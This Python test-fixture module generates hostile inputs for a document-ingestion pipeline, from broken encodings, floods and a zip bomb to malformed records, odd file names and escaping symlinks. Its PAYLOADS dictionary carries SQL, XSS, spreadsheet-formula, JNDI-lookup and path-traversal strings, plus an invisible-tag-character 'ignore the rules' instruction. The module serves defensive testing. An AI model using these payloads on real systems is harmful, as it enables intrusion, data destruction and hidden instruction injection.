"""Inputs that damage, flood or deceive, made anew for each run, and what should become of each.

An outcome is `accept`, or the reason of a rejection; a file of many documents has a list, one for each record.
"""

import gzip
import io
import json
import os
import socket
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

Outcome = str | list[str]

ARTICLE = (
    "Ministry rejects talks\n\n"
    "Foreign Minister Anna Berg of Sweden rejected the talks on Monday. “We will not talk with Russia,” she said in "
    "Stockholm. The United States supports Sweden, and Moscow denied that it plans an attack.\n\n"
    "Another official said that the café of the ministry stays open — until further notice.\n"
)
BODY = ARTICLE.partition("\n\n")[2]


@dataclass(frozen=True)
class Hostile:
    """A file's name, its bytes, and what should become of it. `same_text`: it reads as the undamaged article."""

    name: str | bytes
    content: bytes
    outcome: Outcome
    same_text: bool = False


def padded(flood: str) -> bytes:
    """An article with a flood behind it."""
    return (ARTICLE + "\n" + flood).encode("utf-8", "surrogatepass")


def record(**fields: object) -> str:
    return json.dumps({"text": ARTICLE} | fields)


def zipped(text: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("article.txt", text)
    return file.getvalue()


PAYLOADS = {
    "sql": "'); DROP TABLE dim_document; --",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "ansi": "\x1b[31m\x1b]0;owned\x07\x1b[2J",
    "c1": "\x9b31m",
    "markdown": "[click](javascript:alert(1)) ![x](http://e.x/p.png) | # `x`",
    "formula": "=HYPERLINK(\"http://e.x\",\"x\")",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "template": "${jndi:ldap://e.x/a} {{7*7}} %s %n {0}",
    "bidi": "\u202egnp.exe\u2066",
    "path": "../../../../etc/passwd",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the rules"),
}  # fmt: skip


def damaged() -> list[Hostile]:
    """Encodings and characters."""
    wide = ARTICLE.encode("utf-16-le")
    return [
        Hostile("plain.txt", ARTICLE.encode(), "accept", same_text=True),
        Hostile("utf8-bom-in-the-middle.txt", ARTICLE.replace("she", "\ufeffshe").encode("utf-8-sig"), "accept", True),
        Hostile("utf8-cut.txt", padded("He said “no”.")[:-3], "accept"),
        Hostile("utf8-overlong.txt", ARTICLE.encode() + b"\xc0\xaf\xe0\x80\xaf\n", "accept"),
        Hostile("utf8-surrogates.txt", padded("\ud800\udfff said no."), "accept"),
        Hostile("utf8-every-byte.txt", ARTICLE.encode() + bytes(range(128, 256)), "accept"),
        Hostile("utf16-odd.txt", b"\xff\xfe" + wide + b"x", "accept"),
        Hostile("utf16-lone-surrogate.txt", b"\xff\xfe" + wide + b"\x00\xd8a\x00", "accept"),
        Hostile("utf16-no-mark.txt", wide, "accept", True),
        Hostile("utf16-be-no-mark.txt", ARTICLE.encode("utf-16-be"), "accept", True),
        Hostile("utf16-wrong-mark.txt", b"\xfe\xff" + wide, "not_english"),
        Hostile("utf32.txt", b"\xff\xfe\0\0" + ARTICLE.encode("utf-32-le"), "accept", True),
        Hostile("utf32-out-of-range.txt", b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 100, "too_short"),
        Hostile("utf32-no-mark.txt", ARTICLE.encode("utf-32-le"), "binary"),
        Hostile("windows-1252.txt", ARTICLE.encode("cp1252"), "accept", True),
        Hostile("windows-1252-at-the-end.txt", (ARTICLE + "He drank coffee at the caf").encode("cp1252") + b"\xe9", "accept"),
        Hostile("mojibake.txt", ARTICLE.replace("“", "â€œ").replace("”", "â€").replace("—", "â€”").encode(), "accept"),
        Hostile("mojibake-twice.txt", ARTICLE.replace("é", "ÃƒÂ©").encode(), "accept", True),
        Hostile("entities-escaped-again.txt", ARTICLE.replace("“", "&amp;amp;#8220;").replace("”", "&rdquo;").encode(), "accept", True),
        Hostile("nul.txt", ARTICLE.replace(".", ".\0").encode(), "accept", True),
        Hostile("cr.txt", ARTICLE.replace("\n", "\r").encode(), "accept", True),
        Hostile("separators.txt", ARTICLE.replace("\n\n", "\u2029\u2028").encode(), "accept", True),
        Hostile("soft-hyphens.txt", ARTICLE.replace("e", "e\xad").encode(), "accept", True),
        Hostile("zero-width.txt", ARTICLE.replace("e", "\u200be\u200d\u2060").encode(), "accept", True),
        Hostile("tag-characters.txt", ARTICLE.replace(" she", PAYLOADS["tags"] + " she").encode(), "accept", True),
        Hostile("overrides.txt", ARTICLE.replace("she", "\u202eshe\u202c").encode(), "accept", True),
        Hostile("homoglyphs.txt", ARTICLE.replace("a", "а").encode(), "accept"),  # Cyrillic
    ]  # fmt: skip


def not_text() -> list[Hostile]:
    return [
        Hostile("empty.txt", b"", "empty"),
        Hostile("nothing-to-see.txt", "\ufeff\u200b\xad\u3000\u3164\n".encode() * 50, "empty"),
        Hostile("zip.txt", zipped(ARTICLE), "binary"),
        Hostile("zip-bomb.txt", zipped("0" * 5_000_000), "binary"),
        Hostile("gzip.txt", gzip.compress(ARTICLE.encode(), mtime=0), "binary"),
        Hostile("zip.jsonl", zipped(ARTICLE), "binary"),
        Hostile("gzip.csv", gzip.compress(ARTICLE.encode(), mtime=0), "binary"),
        Hostile("page.txt", f"<!DOCTYPE html><html><body><p>{ARTICLE}</p><script>x</script></body></html>".encode(), "not_prose"),
        Hostile("json.txt", record().encode(), "not_prose"),
        Hostile("nested.json.txt", b"[" * 100_000 + b"]" * 100_000, "too_short"),
        Hostile("base64.txt", b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NQ\n" * 500, "not_prose"),
        Hostile("digits.txt", b"17 4 2022 88 " * 2_000, "not_prose"),
    ]  # fmt: skip


def floods() -> list[Hostile]:
    """What could cost more than its length: each is some 30,000 characters at least."""
    return [
        Hostile("nested-quotes.txt", padded("“" * 50_000 + "No" + "”" * 50_000), "accept"),
        Hostile("nested-quotes-with-spaces.txt", padded("“ " * 5_000 + "No" + " ”" * 5_000), "not_prose"),
        Hostile("quotes-that-never-close.txt", padded("“Never again " * 3_000), "accept"),
        Hostile("short-quotes.txt", padded('"No," he said. ' * 800), "accept"),
        Hostile("40000-short-quotes.txt", padded('"No," he said. ' * 40_000), "too_long"),
        Hostile("one-line-of-5-mb.txt", ARTICLE.replace("\n", " ").encode() * (5_000_000 // len(ARTICLE)), "too_long"),
        Hostile("one-word-of-900000.txt", padded("x" * 900_000), "accept", True),
        Hostile("no-punctuation.txt", padded("the council met on the plan and people went home " * 1_500), "accept"),
        Hostile("capitals-without-end.txt", padded("THE COUNCIL SAID NO TO THE PLAN AND WENT HOME " * 300), "accept"),
        Hostile("he-said-that-she-said.txt", padded("he said that she said that " * 250), "accept"),
        Hostile("combining.txt", padded("a" + "\u0301\u0327" * 200_000), "accept"),
        Hostile("zero-widths.txt", padded("\u200b" * 200_000), "accept", True),
        Hostile("overrides-by-the-thousand.txt", padded("\u202eab\u202c " * 10_000), "accept"),
        Hostile("entities.txt", padded("&amp;" * 50_000), "accept"),
        Hostile("escapes.txt", padded("\x1b[" + "1;" * 100_000), "accept"),
        Hostile("mojibake-by-the-thousand.txt", padded("â€™" * 50_000), "accept"),
        Hostile("links.txt", padded("[a](b(c" * 10_000), "accept", True),
        Hostile("brackets.txt", padded("[(" * 50_000), "accept", True),
        Hostile("empty-lines.txt", padded("\n" * 300_000), "accept", True),
        Hostile("title-of-10000.txt", ("Ministry rejects the talks " * 400 + "\n\n" + BODY).encode(), "accept"),
        Hostile("labels.txt", padded("".join(f"MR. A{chr(65 + i % 26)}{chr(65 + i // 26 % 26)}: I reject the plan of Russia.\n\n" for i in range(1_000))), "accept"),
        Hostile("front-matter.txt", ("---\n" + "key: value\n" * 5_000 + "---\n" + ARTICLE).encode(), "not_english"),
    ]  # fmt: skip


def records() -> list[Hostile]:
    """JSON Lines and CSV."""
    payloads = [
        record(
            text=f"{ARTICLE}\nIt is about {name}.", title=value, publisher=value, url=value, date=value, document=value
        )
        for name, value in PAYLOADS.items()
    ]
    rows = [
        f'"{BODY}\nIt is all about {name}.","{value.replace(chr(34), chr(34) * 2)}"' for name, value in PAYLOADS.items()
    ]
    lines = [
        "{broken", "[]", "null", '"text"', '{"body": "x"}', '{"text": null}', '{"text": 7}', '{"text": ["x"]}',
        '{"text": "a", "text": "b"}', '{"text": ' + "1" * 10_000 + "}", "[" * 100_000, '{"a":' * 100_000,
        record(title={"x": 1}, date=1e308), record(date="9" * 5_000, title="\x00\ud800"), record(date="31 Feb 2022"),
    ]  # fmt: skip
    refused = ["malformed_record"] * 12
    many = {f"k{i}": i for i in range(20_000)}
    return [
        Hostile("lines.jsonl", "\n".join(lines).encode(), [*refused, *["accept"] * 3]),
        Hostile("payloads.jsonl", "\n".join(payloads).encode(), ["accept"] * len(payloads)),
        Hostile("many-keys.jsonl", json.dumps(many).encode(), ["malformed_record"]),
        Hostile("wide.jsonl", record().encode("utf-16"), "undecodable"),
        Hostile("no-column.csv", b"body,headline\na,b\n", "malformed_record"),
        Hostile("twice.csv", b"text,text\na,b\n", "malformed_record"),
        Hostile("ragged.csv", b'text,title\na\na,b,c\n"never closed,b\nc,d\n', ["malformed_record"] * 3),
        Hostile("empty.csv", b"", "malformed_record"),
        Hostile("many-columns.csv", b"," * 100_000 + b"\nx\n", "malformed_record"),
        Hostile("nul.csv", f'text\0,title\n"{BODY}",x\n'.encode(), "malformed_record"),
        Hostile("payloads.csv", "\n".join(["text,title", *rows]).encode(), ["accept"] * len(PAYLOADS)),
    ]  # fmt: skip


def texts_with_payloads() -> list[Hostile]:
    return [
        Hostile(f"payload-{name}.txt", f"{value}\n\nBy {value}\n\n{BODY}\n{value} said “{value}”.\n".encode(), "not_prose" if name == "html" else "accept")
        for name, value in PAYLOADS.items()
    ] + [
        Hostile("payload-html-once.txt", (ARTICLE + f"\nShe said “{PAYLOADS['html']}” to Russia.\n").encode(), "accept"),
        Hostile("front-matter-escapes.txt", f'---\ntitle: "Red \\x1b[31m \\u202e alert"\nauthor: "\\x00=1+1"\n---\n{BODY}'.encode(), "accept"),
    ]  # fmt: skip


def names() -> list[Hostile]:
    """Names of files. All hold the same text."""
    odd: list[str | bytes] = [
        "line\nbreak.txt", "carriage\rreturn.txt", "-rf --help.txt", "'quotes' \"and\" `more`.txt", "$HOME;&|.txt",
        "\x1b[31mred.txt", "\u202egnp.txt", "=1+1.txt", "<b>bold<b>.txt", "a..b.txt", "%2e%2e%2fup.txt",
        "CON.txt", "nul", "aux.txt.", "[a-z]*?.txt", "{warehouse}.txt", "cafe\u0301.txt", "café.txt", "x" * 240 + ".txt",
        b"bad\xff.txt", b"bad\\xff.txt", b"bad\\\\xff.txt", b"\xc3\x28.txt", "no suffix", "UPPER.TXT",
    ]  # fmt: skip
    return [Hostile(name, ARTICLE.encode(), "accept", True) for name in odd]


CASES: list[Callable[[], list[Hostile]]] = [damaged, not_text, floods, records, texts_with_payloads, names]


def write(folder: Path) -> dict[Path, Hostile]:
    """Every input, each kind in a folder of its own, by path."""
    written = {}
    for kind in CASES:
        (folder / kind.__name__).mkdir(parents=True)
        for hostile in kind():
            name = os.fsdecode(hostile.name) if isinstance(hostile.name, bytes) else hostile.name
            path = folder / kind.__name__ / name
            path.write_bytes(hostile.content)
            written[path] = hostile
    return written


def write_special_files(folder: Path) -> dict[Path, str]:
    """What is no regular file, or hidden, with the reason it is rejected for, or `skip`."""
    folder.mkdir()
    (folder / "secret.txt").write_text("A secret of another folder.\n" * 20, encoding="utf-8")
    inside = folder / "inside"
    (inside / "empty" / "deeper").mkdir(parents=True)
    (inside / "folder.txt").mkdir()
    (inside / "loop").symlink_to(inside)
    (inside / "self.txt").symlink_to(inside / "self.txt")
    (inside / "dangling.txt").symlink_to(inside / "gone.txt")
    (inside / "outside.txt").symlink_to(folder / "secret.txt")
    (inside / "folder-outside").symlink_to(folder)
    os.mkfifo(inside / "pipe.txt")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(inside / "s"))
    for name in (".hidden.txt", "._article.txt", "~$article.txt", "draft.txt~"):
        (inside / name).write_text(ARTICLE, encoding="utf-8")
    rejected = ("loop", "self.txt", "dangling.txt", "outside.txt", "folder-outside", "pipe.txt", "s")
    skipped = (".hidden.txt", "._article.txt", "~$article.txt", "draft.txt~", "empty", "folder.txt")
    return {inside / name: "unreadable" for name in rejected} | {inside / name: "skip" for name in skipped}
